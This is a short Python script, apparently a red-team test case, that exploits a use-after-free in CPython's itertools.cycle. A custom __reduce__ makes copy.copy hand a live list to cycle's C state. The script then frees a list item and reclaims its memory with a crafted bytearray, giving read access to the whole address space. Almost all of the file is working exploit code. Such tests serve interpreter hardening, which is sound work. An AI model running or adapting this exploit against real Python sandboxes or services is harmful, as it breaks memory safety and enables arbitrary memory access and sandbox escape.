# technique: copy.copy of a user subclass of itertools.cycle whose __reduce__ returns a state of its own (a tuple subclass around a live list): copy ran the C cycle.__setstate__ on the fresh object, which kept the user's list as its own; shrinking it left cycle_next reading a freed item, reclaimed as a fake bytearray over all memory (red-team pass 66)
# expect: any
import itertools, copy
BA_TYPE = 0x1001c80
class T(tuple): pass
def q(v): return v.to_bytes(8, "little")
fake = q(1 << 40) + q(BA_TYPE) + q(1 << 62) + q((1 << 62) + 1) + q(0) + q(0) + q(0)
fake = fake + b"\0" * (79 - len(fake))
X = bytes(range(40))  # 33+40 -> 80-byte pymalloc block
X = X + b""  # ensure heap object
saved = [None, None, None, None, None, None, X, None]
del X
class C(itertools.cycle):
    def __reduce__(self):
        return (C, ([],), T((saved, 1)))
c = copy.copy(C([]))
for i in range(6): next(c)
del saved[5:]      # frees X; slot 6 keeps the stale pointer, size 5 < index 6
spray = bytearray(fake)   # buffer takes X's 80-byte block
ba = next(c)
print(type(ba), len(ba) == 1 << 62)
print(bytes(ba[0x400000:0x400004]))
